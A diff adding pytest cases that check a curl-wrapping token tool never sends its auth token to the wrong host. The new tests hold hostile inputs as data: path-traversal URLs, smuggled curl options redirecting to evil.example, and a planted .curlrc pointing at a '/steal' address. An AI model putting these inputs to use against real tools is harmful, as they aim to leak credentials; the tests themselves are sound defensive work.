@@ -80,6 +80,10 @@ def test_curl_calls_the_api(erp, sainet):
     ["{api}/../../admin"],
     ["{api}/%2e%2e/admin"],
     ["--next", "{api}/ADR02/1"],
+    ["--request-target", "/admin", "{api}/ADR02/1"],
+    ["--cacert", "/tmp/x", "--connect-to", "::evil.example:443", "{api}/ADR02/1"],
+    ["{api}/..;/admin"],
+    ["{api}/.%2e%3bx/admin"],
     ["-o", "out"],
 ])
 def test_curl_takes_the_token_nowhere_else(erp, sainet, args):
@@ -98,6 +102,31 @@ def test_curl_mixes_no_profiles(erp, sainet):
         r = erp.tokenring("curl", *args)
         assert r.returncode == 2 and "'other'" in r.stderr and "'erp'" in r.stderr, r
     assert sainet.count() == before
+
+
+def test_curl_order_does_not_matter(erp, sainet):
+    """The inner profile's URL does not get the outer one's token."""
+    erp.sainet(sainet, name="outer", domain="OTHER", match=sainet.url, store="file")
+    login(erp)
+    login(erp, profile="outer")
+    before = sainet.count()
+    for urls in ([f"{sainet.url}/x", f"{sainet.api}/ADR02"], [f"{sainet.api}/ADR02", f"{sainet.url}/x"]):
+        assert erp.tokenring("curl", *urls).returncode == 2
+    assert sainet.count() == before
+
+
+def test_curl_reads_no_curlrc(erp, sainet):
+    login(erp)
+    (erp.home / ".curlrc").write_text('url = "http://127.0.0.1:1/steal"\n')
+    r = erp.tokenring("curl", "-sS", f"{sainet.api}/ADR02")
+    assert r.returncode == 0 and json.loads(r.stdout)
+
+
+def test_a_url_and_a_profile_must_agree(erp, sainet):
+    login(erp)
+    assert erp.ok("headers", "--profile", "erp", f"{sainet.api}/x")
+    r = erp.tokenring("headers", "--profile", "erp", "https://evil.example/")
+    assert (r.returncode, r.stdout) == (2, "") and "does not belong" in r.stderr
 
 
 def test_curl_needs_a_token_before_it_runs(erp, sainet):
